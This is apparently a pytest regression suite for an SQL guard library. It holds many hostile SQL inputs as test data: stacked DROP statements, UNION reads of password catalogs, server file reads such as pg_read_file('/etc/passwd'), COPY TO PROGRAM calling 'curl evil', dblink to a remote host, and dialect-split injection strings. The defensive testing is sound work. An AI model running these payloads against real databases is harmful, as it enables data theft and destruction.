"""Regression tests for SQL injection and data-exposure techniques, one group per attack class.

Every input is small and must be rejected with one specific violation code,
or, where noted, must come back rewritten so that the server runs only
what the guard checked. The policy is the reporting policy of the benign
corpus: ``customers.email`` and ``customers.password_hash`` exist but are
not allowed.
"""

from __future__ import annotations

import pytest
import sqlglot
from sqlglot.errors import ErrorLevel

from jivs_security.errors import SqlRejected
from jivs_security.sql import SqlGuard, SqlPolicy, SqlViolation
from sql_corpus import policy

MYSQL_POLICY = SqlPolicy({"orders": {"id", "total"}, "customers": {"id", "name"}}, dialect="mysql")

GUARDS = {
    "postgres": SqlGuard(policy("postgres")),
    "sqlite": SqlGuard(policy("sqlite")),
    "mysql": SqlGuard(MYSQL_POLICY),
}


def rejected_code(sql: str, dialect: str = "postgres") -> str:
    """Check ``sql`` in ``dialect`` and return the code of the SqlRejected it raises."""
    with pytest.raises(SqlRejected) as caught:
        GUARDS[dialect].check(sql)
    return caught.value.code


def statement_count(sql: str, dialect: str) -> int:
    """Return how many statements sqlglot finds in ``sql`` when reading ``dialect``."""
    trees = sqlglot.parse(sql, read=dialect, error_level=ErrorLevel.RAISE)
    return sum(1 for tree in trees if tree is not None)


# Stacked statements.


@pytest.mark.parametrize(
    ("dialect", "sql"),
    [
        ("postgres", "SELECT id FROM orders; DROP TABLE orders"),
        ("postgres", "SELECT id FROM orders; SELECT name FROM customers"),
        ("sqlite", "SELECT id FROM orders; ATTACH DATABASE '/tmp/x.db' AS x"),
        ("mysql", "SELECT id FROM orders; DELETE FROM orders"),
    ],
)
def test_stacked_statements_rejected(dialect: str, sql: str) -> None:
    """A second statement after a semicolon is rejected, even a harmless one."""
    assert rejected_code(sql, dialect) == SqlViolation.MULTIPLE_STATEMENTS


# Comment tricks.


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT id FROM orders;/**/DROP/**/TABLE/**/orders",
        "SELECT id FROM orders -- harmless\n; DELETE FROM orders",
        "SELECT id FROM orders /* ; */ ; UPDATE orders SET total = 0",
    ],
)
def test_comment_hidden_statement_rejected(sql: str) -> None:
    """Comments used as whitespace or decoys do not hide a second statement."""
    assert rejected_code(sql) == SqlViolation.MULTIPLE_STATEMENTS


def test_comment_hidden_column_rejected() -> None:
    """A column between comments is still checked."""
    assert rejected_code("SELECT id, /* decoy */ email/**/FROM customers") == (
        SqlViolation.COLUMN_NOT_ALLOWED
    )


def test_nested_comment_kept_as_comment() -> None:
    """PostgreSQL nests block comments; sqlglot does too, and the text inside is dropped."""
    checked = GUARDS["postgres"].check("SELECT id FROM orders /* /* */ , email */")

    assert checked.sql == "SELECT id FROM orders LIMIT 1000"


# Case and whitespace tricks.


@pytest.mark.parametrize(
    ("sql", "code"),
    [
        ("sElEcT id FrOm orders;\n\tDrOp\tTaBlE orders", SqlViolation.MULTIPLE_STATEMENTS),
        ("SELECT Pg_SlEeP(5)", SqlViolation.FUNCTION_NOT_ALLOWED),
        (
            "SELECT\u000bid\u000cFROM\rcustomers\tWHERE\u00a0EMAIL = 'x'",
            SqlViolation.COLUMN_NOT_ALLOWED,
        ),
        ("SELECT\u000bid\u000cFROM\rcustomers\tWHERE EMAIL = 'x'", SqlViolation.COLUMN_NOT_ALLOWED),
        ('SELECT "EMAIL" FROM customers', SqlViolation.COLUMN_NOT_ALLOWED),
        ("SELECT ID FROM CUSTOMERS WHERE PASSWORD_HASH IS NULL", SqlViolation.COLUMN_NOT_ALLOWED),
    ],
)
def test_case_and_whitespace_rejected(sql: str, code: SqlViolation) -> None:
    """Mixed case and unusual whitespace change nothing about what is checked."""
    assert rejected_code(sql) == code


def test_unusual_whitespace_rewritten() -> None:
    """sqlglot reads no-break spaces as whitespace, where PostgreSQL reads identifier characters.

    The rewrite uses plain spaces, so the server reads the words that the
    guard checked.
    """
    checked = GUARDS["postgres"].check("SELECT\u00a0id\u000bFROM\u00a0orders")

    assert checked.sql == "SELECT id FROM orders LIMIT 1000"


# UNION into system tables.


@pytest.mark.parametrize(
    ("dialect", "sql"),
    [
        ("postgres", "SELECT name FROM customers UNION SELECT usename FROM pg_user"),
        ("postgres", "SELECT name FROM customers UNION SELECT passwd FROM pg_catalog.pg_shadow"),
        (
            "postgres",
            "SELECT name FROM customers UNION SELECT table_name FROM information_schema.tables",
        ),
        ("sqlite", "SELECT name FROM customers UNION SELECT sql FROM sqlite_master"),
        ("sqlite", "SELECT name FROM customers UNION SELECT name FROM pragma_table_list"),
        ("mysql", "SELECT name FROM customers UNION SELECT user FROM mysql.user"),
    ],
)
def test_union_into_system_table_rejected(dialect: str, sql: str) -> None:
    """System catalogs are rejected with their own code."""
    assert rejected_code(sql, dialect) == SqlViolation.SYSTEM_TABLE


def test_allowed_system_table_accepted() -> None:
    """A system catalog that the policy lists is accepted like any table."""
    guard = SqlGuard(SqlPolicy({"information_schema.tables": {"table_name"}}, dialect="postgres"))

    checked = guard.check("SELECT table_name FROM information_schema.tables")

    assert checked.tables == frozenset({"information_schema.tables"})


# Time-delay functions.


@pytest.mark.parametrize(
    ("dialect", "sql"),
    [
        ("postgres", "SELECT pg_sleep(10)"),
        ("postgres", "SELECT id FROM orders WHERE id = 1 AND pg_sleep_for('10 seconds') IS NULL"),
        ("mysql", "SELECT id FROM orders WHERE SLEEP(10) = 0"),
        ("mysql", "SELECT BENCHMARK(100000000, MD5('x'))"),
        ("sqlite", "SELECT id FROM orders WHERE randomblob(1000000000) IS NOT NULL"),
        ("postgres", "SELECT COUNT(*) FROM generate_series(1, 100000000000) AS g"),
    ],
)
def test_time_delay_rejected(dialect: str, sql: str) -> None:
    """Sleeps and deliberately slow functions are outside the function allowlist."""
    assert rejected_code(sql, dialect) in {
        SqlViolation.FUNCTION_NOT_ALLOWED,
        SqlViolation.SYNTAX_NOT_ALLOWED,
    }


def test_sleep_code_is_function() -> None:
    """pg_sleep is rejected as a function outside the allowlist."""
    assert rejected_code("SELECT pg_sleep(10)") == SqlViolation.FUNCTION_NOT_ALLOWED


def test_table_function_rejected() -> None:
    """generate_series in FROM is a table function, which the guard does not accept."""
    code = rejected_code("SELECT COUNT(*) FROM generate_series(1, 100000000000) AS g")

    assert code == SqlViolation.SYNTAX_NOT_ALLOWED


# File-reading and file-writing functions.


@pytest.mark.parametrize(
    ("dialect", "sql"),
    [
        ("postgres", "SELECT pg_read_file('/etc/passwd')"),
        ("postgres", "SELECT pg_read_binary_file('/etc/passwd')"),
        ("postgres", "SELECT lo_import('/etc/passwd')"),
        ("postgres", "SELECT lo_export(16400, '/tmp/owned')"),
        ("postgres", "SELECT pg_ls_dir('.')"),
        ("mysql", "SELECT LOAD_FILE('/etc/passwd')"),
        ("sqlite", "SELECT readfile('/etc/passwd')"),
        ("sqlite", "SELECT writefile('/tmp/owned', 'x')"),
        ("sqlite", "SELECT load_extension('/tmp/evil.so')"),
    ],
)
def test_file_functions_rejected(dialect: str, sql: str) -> None:
    """Functions that read or write server files are rejected."""
    assert rejected_code(sql, dialect) == SqlViolation.FUNCTION_NOT_ALLOWED


@pytest.mark.parametrize(
    ("dialect", "sql", "code"),
    [
        ("postgres", "COPY orders TO '/tmp/owned'", SqlViolation.STATEMENT_NOT_ALLOWED),
        (
            "postgres",
            "COPY (SELECT id FROM orders) TO PROGRAM 'curl evil'",
            SqlViolation.STATEMENT_NOT_ALLOWED,
        ),
        # sqlglot 30 has no parser for LOAD DATA in MySQL.
        ("mysql", "LOAD DATA INFILE '/etc/passwd' INTO TABLE orders", SqlViolation.PARSE_ERROR),
    ],
)
def test_file_statements_rejected(dialect: str, sql: str, code: SqlViolation) -> None:
    """COPY and LOAD DATA are statements, not queries."""
    assert rejected_code(sql, dialect) == code


def test_into_outfile_rejected() -> None:
    """MySQL's SELECT ... INTO OUTFILE does not parse in sqlglot 30, so it is rejected."""
    assert rejected_code("SELECT id FROM orders INTO OUTFILE '/tmp/owned'", "mysql") == (
        SqlViolation.PARSE_ERROR
    )


# Remote-connection functions.


@pytest.mark.parametrize(
    ("dialect", "sql"),
    [
        ("postgres", "SELECT dblink('host=198.51.100.7 user=x', 'SELECT 1')"),
        ("postgres", "SELECT dblink_exec('host=198.51.100.7', 'DROP TABLE orders')"),
        ("postgres", "SELECT dblink_connect('evil', 'host=198.51.100.7')"),
        (
            "postgres",
            "SELECT id FROM orders WHERE query_to_xml('SELECT 1', true, true, '') IS NULL",
        ),
    ],
)
def test_remote_connection_functions_rejected(dialect: str, sql: str) -> None:
    """dblink and functions that run a query given as a string are rejected."""
    assert rejected_code(sql, dialect) == SqlViolation.FUNCTION_NOT_ALLOWED


def test_remote_table_function_rejected() -> None:
    """dblink used as a table in FROM is rejected as a table function."""
    code = rejected_code(
        "SELECT x FROM dblink('host=198.51.100.7', 'SELECT passwd FROM pg_shadow') AS t(x TEXT)"
    )

    assert code == SqlViolation.SYNTAX_NOT_ALLOWED


def test_sqlite_attach_rejected() -> None:
    """SQLite's ATTACH opens another database file."""
    code = rejected_code("ATTACH DATABASE '/tmp/other.db' AS other", "sqlite")

    assert code == SqlViolation.STATEMENT_NOT_ALLOWED


# Locking.


@pytest.mark.parametrize(
    ("dialect", "sql"),
    [
        ("postgres", "SELECT id FROM orders FOR UPDATE"),
        ("postgres", "SELECT id FROM orders FOR NO KEY UPDATE NOWAIT"),
        ("postgres", "SELECT id FROM orders FOR SHARE SKIP LOCKED"),
        ("postgres", "SELECT id FROM orders WHERE id IN (SELECT id FROM orders FOR UPDATE)"),
        ("mysql", "SELECT id FROM orders LOCK IN SHARE MODE"),
        ("mysql", "SELECT id FROM orders FOR UPDATE"),
    ],
)
def test_locking_clause_rejected(dialect: str, sql: str) -> None:
    """Row locks block writers, so locking clauses are rejected at any depth."""
    assert rejected_code(sql, dialect) == SqlViolation.LOCKING_CLAUSE


# SELECT INTO.


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT id INTO stolen FROM orders",
        "SELECT id INTO TEMPORARY stolen FROM orders",
        "SELECT id INTO UNLOGGED stolen FROM orders",
    ],
)
def test_select_into_rejected(sql: str) -> None:
    """SELECT ... INTO creates a table from the result."""
    assert rejected_code(sql) == SqlViolation.SELECT_INTO


# DML inside CTEs.


@pytest.mark.parametrize(
    "sql",
    [
        "WITH gone AS (DELETE FROM orders RETURNING id) SELECT id FROM gone",
        "WITH t AS (UPDATE orders SET total = 0 RETURNING id) SELECT id FROM t",
        "WITH t AS (INSERT INTO orders (id) VALUES (99) RETURNING id) SELECT id FROM t",
        "WITH a AS (SELECT id FROM orders), b AS (DELETE FROM customers RETURNING id) "
        "SELECT id FROM a",
    ],
)
def test_dml_in_cte_rejected(sql: str) -> None:
    """A data-changing statement inside a CTE is rejected, even if the query never reads it."""
    assert rejected_code(sql) == SqlViolation.STATEMENT_NOT_ALLOWED


@pytest.mark.parametrize(
    "sql",
    [
        "INSERT INTO orders (id) VALUES (1)",
        "UPDATE orders SET total = 0",
        "DELETE FROM orders",
        "DROP TABLE orders",
        "CREATE TABLE t AS SELECT id FROM orders",
        "ALTER TABLE orders ADD COLUMN x INT",
        "TRUNCATE orders",
        "GRANT SELECT ON orders TO public",
        "SET search_path TO evil",
    ],
)
def test_write_statement_rejected(sql: str) -> None:
    """Statements that change data, schema, rights or settings are rejected."""
    assert rejected_code(sql) == SqlViolation.STATEMENT_NOT_ALLOWED


@pytest.mark.parametrize("sql", ["VACUUM", "EXPLAIN ANALYZE SELECT id FROM orders"])
def test_unparsed_command_rejected(sql: str) -> None:
    """Statements that sqlglot keeps as raw exp.Command text are rejected."""
    assert rejected_code(sql) == SqlViolation.UNPARSED_COMMAND


def test_bare_word_statement_rejected() -> None:
    """sqlglot parses CHECKPOINT as a column expression, which is no query."""
    assert rejected_code("CHECKPOINT") == SqlViolation.STATEMENT_NOT_ALLOWED


# Whole-row references.


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT c FROM customers c",
        "SELECT customers FROM customers",
        "SELECT name FROM customers c WHERE c IS NOT NULL",
        "SELECT lower(c) FROM customers c",
        "SELECT (c).email FROM customers c",
        "SELECT name FROM customers c ORDER BY c",
    ],
)
def test_whole_row_reference_rejected(sql: str) -> None:
    """A table or alias used as a value reads every column of the row."""
    assert rejected_code(sql) == SqlViolation.WHOLE_ROW_REFERENCE


def test_row_to_json_rejected() -> None:
    """row_to_json(c) is rejected already for its function."""
    code = rejected_code("SELECT row_to_json(c) FROM customers c")

    assert code == SqlViolation.FUNCTION_NOT_ALLOWED


def test_functional_column_notation_rejected() -> None:
    """PostgreSQL reads email(c) as c.email; the guard finds a function and a whole row."""
    code = rejected_code("SELECT email(c) FROM customers c")

    assert code == SqlViolation.FUNCTION_NOT_ALLOWED


# Disallowed columns via *.


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT * FROM customers",
        "SELECT c.* FROM customers c",
        "SELECT id FROM (SELECT * FROM customers) AS t",
        "WITH t AS (SELECT * FROM customers) SELECT id FROM t",
        "SELECT COUNT(c.*) FROM customers c",
        "TABLE customers",
    ],
)
def test_star_rejected(sql: str) -> None:
    """* reads every column, including email and password_hash."""
    assert rejected_code(sql) == SqlViolation.STAR_NOT_ALLOWED


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT email FROM customers",
        "SELECT id FROM customers WHERE password_hash LIKE '$argon2%'",
        "SELECT id FROM customers ORDER BY email",
        "SELECT COUNT(*) FROM customers GROUP BY email",
        "SELECT id, ROW_NUMBER() OVER (ORDER BY email) FROM customers",
        "SELECT o.id FROM orders o JOIN customers c ON c.email = 'x'",
        "SELECT DISTINCT ON (email) id FROM customers",
        "SELECT id FROM orders WHERE (SELECT MAX(email) FROM customers) > 'a'",
    ],
)
def test_unlisted_column_anywhere_rejected(sql: str) -> None:
    """An unlisted column is rejected in every clause, not only in the SELECT list."""
    assert rejected_code(sql) == SqlViolation.COLUMN_NOT_ALLOWED


def test_natural_join_rejected() -> None:
    """NATURAL JOIN would join on every shared column, listed or not."""
    code = rejected_code("SELECT id FROM orders NATURAL JOIN customers")

    assert code == SqlViolation.SYNTAX_NOT_ALLOWED


# Executable comments.


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT id FROM orders /*!50000 UNION SELECT name FROM customers */",
        "SELECT id /*!, total */ FROM orders",
        "SELECT id /*M!100000 , total */ FROM orders",
    ],
)
def test_executable_comment_rejected(sql: str) -> None:
    """MySQL and MariaDB run the text inside /*! ... */, so such comments are rejected."""
    assert rejected_code(sql, "mysql") == SqlViolation.EXECUTABLE_COMMENT


def test_executable_comment_rejected_in_postgres() -> None:
    """The comment is rejected under every dialect, in case the text reaches MySQL."""
    assert rejected_code("SELECT id FROM orders /*! , email */") == (
        SqlViolation.EXECUTABLE_COMMENT
    )


def test_comment_marker_in_string_allowed() -> None:
    """/*! inside a string literal is data, not a comment."""
    checked = GUARDS["postgres"].check("SELECT id FROM orders WHERE status = '/*! x */'")

    assert checked.sql == "SELECT id FROM orders WHERE status = '/*! x */' LIMIT 1000"


def test_optimizer_hint_rejected() -> None:
    """MySQL optimizer hints are parsed and would be regenerated, and SET_VAR changes settings."""
    code = rejected_code("SELECT /*+ SET_VAR(sort_buffer_size = 16M) */ id FROM orders", "mysql")

    assert code == SqlViolation.OPTIMIZER_HINT


# Unicode-escaped identifiers.


def test_unicode_identifier_rejected() -> None:
    """PostgreSQL reads U&"\\0065mail" as email; sqlglot 30 reads U & "\\0065mail".

    Neither U nor a column named \\0065mail is allowed, so the guard rejects it.
    """
    assert rejected_code('SELECT U&"\\0065mail" FROM customers') == (
        SqlViolation.COLUMN_NOT_ALLOWED
    )


def test_unicode_table_rejected() -> None:
    """A unicode-escaped table name does not parse as a table."""
    assert rejected_code('SELECT id FROM U&"\\0070g_user"') == SqlViolation.PARSE_ERROR


def test_unicode_escape_not_regenerated() -> None:
    """If U&"..." parses at all, the rewrite separates U and & so PostgreSQL cannot join them."""
    guard = SqlGuard(SqlPolicy({"t": {"u", "\\0061"}}, dialect="postgres"))

    checked = guard.check('SELECT U&"\\0061" FROM t')

    assert checked.sql == 'SELECT U & "\\0061" FROM t LIMIT 1000'


def test_unicode_string_literal_kept() -> None:
    """A unicode-escaped string literal is data and stays a literal."""
    checked = GUARDS["postgres"].check("SELECT id FROM orders WHERE status = U&'p\\0061id'")

    assert checked.sql == "SELECT id FROM orders WHERE status = U&'p\\0061id' LIMIT 1000"


# A statement that is one statement in one dialect and two in another.

# In MySQL a backslash escapes the quote, so this is one SELECT of one
# string. In PostgreSQL (standard_conforming_strings on, the default since
# 9.1) the backslash is an ordinary character: the string ends after it and
# DROP TABLE follows.
BACKSLASH_SPLIT = "SELECT 'a\\'; DROP TABLE orders; -- '"


def test_backslash_splits_in_postgres() -> None:
    """sqlglot finds one statement reading MySQL and more reading PostgreSQL."""
    assert statement_count(BACKSLASH_SPLIT, "mysql") == 1
    assert statement_count(BACKSLASH_SPLIT, "postgres") > 1


def test_backslash_split_rejected_in_postgres() -> None:
    """A PostgreSQL guard parses as PostgreSQL does and rejects the second statement."""
    assert rejected_code(BACKSLASH_SPLIT) == SqlViolation.MULTIPLE_STATEMENTS


def test_backslash_split_neutralised_in_mysql() -> None:
    """A MySQL guard accepts one string and doubles the quote, which is one statement anywhere."""
    checked = GUARDS["mysql"].check(BACKSLASH_SPLIT)

    assert checked.sql == "SELECT 'a''; DROP TABLE orders; -- ' LIMIT 1000"
    assert statement_count(checked.sql, "postgres") == 1


# sqlglot reads PostgreSQL strings with standard_conforming_strings on. A
# server with it off reads \' as an escaped quote, so the first string runs
# on and the "second string" below becomes a UNION.
STANDARD_STRINGS_SPLIT = "SELECT 'x\\' AS a, ' UNION SELECT password_hash FROM customers --' AS b"


def test_backslash_string_rejected_in_postgres() -> None:
    """A PostgreSQL string with a backslash is rejected, whatever the server's setting."""
    assert rejected_code(STANDARD_STRINGS_SPLIT) == SqlViolation.SYNTAX_NOT_ALLOWED


def test_dollar_quoted_backslash_rejected() -> None:
    """A dollar-quoted string is written back in plain quotes, so its backslash counts too."""
    assert rejected_code("SELECT $$x\\$$ AS a") == SqlViolation.SYNTAX_NOT_ALLOWED


def test_escape_string_accepted() -> None:
    """E'...' strings mean the same under both settings and are written back as E strings."""
    checked = GUARDS["postgres"].check("SELECT E'a\\\\b' AS a")

    assert checked.sql == "SELECT e'a\\\\b' AS a LIMIT 1000"


def test_backslash_string_accepted_in_sqlite() -> None:
    """SQLite has no backslash escapes, so its strings may hold backslashes."""
    checked = GUARDS["sqlite"].check("SELECT 'a\\b' AS a")

    assert checked.sql == "SELECT 'a\\b' AS a LIMIT 1000"


# MySQL reads # as a line comment; PostgreSQL reads it as the XOR operator.
HASH_COMMENT = "SELECT id FROM orders # ; DROP TABLE orders\n"


def test_hash_comment_one_statement_in_mysql() -> None:
    """In MySQL the rest of the line is a comment, and the rewrite drops it."""
    checked = GUARDS["mysql"].check(HASH_COMMENT)

    assert checked.sql == "SELECT id FROM orders LIMIT 1000"


def test_hash_comment_rejected_in_postgres() -> None:
    """In PostgreSQL the same text does not parse."""
    assert rejected_code(HASH_COMMENT) == SqlViolation.PARSE_ERROR


def test_double_quotes_differ_by_dialect() -> None:
    """MySQL reads "email" as a string; single quotes keep it a string under ANSI_QUOTES too."""
    checked = GUARDS["mysql"].check('SELECT id FROM orders WHERE "email" = "x"')

    assert checked.sql == "SELECT id FROM orders WHERE 'email' = 'x' LIMIT 1000"


# Bare words that sqlglot writes back verbatim.


def test_bare_word_as_value_rejected() -> None:
    """sqlglot 30 parses DATE_BIN's third argument as a bare word and writes it back unquoted.

    PostgreSQL would then read password_hash as a column that the walk
    never checked, so a bare word in the place of a value is rejected.
    """
    guard = SqlGuard(
        SqlPolicy({"customers": {"id", "created_at"}}, dialect="postgres", functions=["DATE_BIN"])
    )

    with pytest.raises(SqlRejected) as caught:
        guard.check("SELECT DATE_BIN(INTERVAL '1 day', created_at, password_hash) FROM customers")

    assert caught.value.code == SqlViolation.SYNTAX_NOT_ALLOWED


def test_column_as_date_part_becomes_keyword() -> None:
    """DATE_PART(email, x) is rewritten as EXTRACT(EMAIL FROM x), where EMAIL cannot be a column."""
    checked = GUARDS["postgres"].check("SELECT DATE_PART(email, created_at) FROM customers")

    assert checked.sql == "SELECT EXTRACT(EMAIL FROM created_at) FROM customers LIMIT 1000"


# Quoting and qualification tricks against the function allowlist.


def test_quoted_function_name_rejected() -> None:
    """A quoted name may select a case-sensitive look-alike of an allowed function."""
    assert rejected_code('SELECT "pg_sleep"(1)') == SqlViolation.FUNCTION_NOT_ALLOWED


def test_qualified_function_rejected() -> None:
    """public.lower(x) may call a look-alike of lower defined in the public schema."""
    assert rejected_code("SELECT public.lower(name) FROM customers") == (
        SqlViolation.FUNCTION_NOT_ALLOWED
    )


def test_object_identifier_cast_rejected() -> None:
    """'pg_shadow'::regclass looks up catalog entries."""
    assert rejected_code("SELECT 'pg_shadow'::regclass") == SqlViolation.SYNTAX_NOT_ALLOWED


def test_mysql_session_variable_rejected() -> None:
    """@@version reads a server variable."""
    assert rejected_code("SELECT @@version", "mysql") == SqlViolation.SYNTAX_NOT_ALLOWED


def test_mysql_variable_assignment_rejected() -> None:
    """:= assigns a user variable."""
    assert rejected_code("SELECT @x := 1", "mysql") == SqlViolation.SYNTAX_NOT_ALLOWED


def test_recursive_cte_rejected() -> None:
    """An unbounded recursive CTE runs until the server gives up."""
    sql = "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT n FROM r"

    assert rejected_code(sql) == SqlViolation.RECURSIVE_CTE
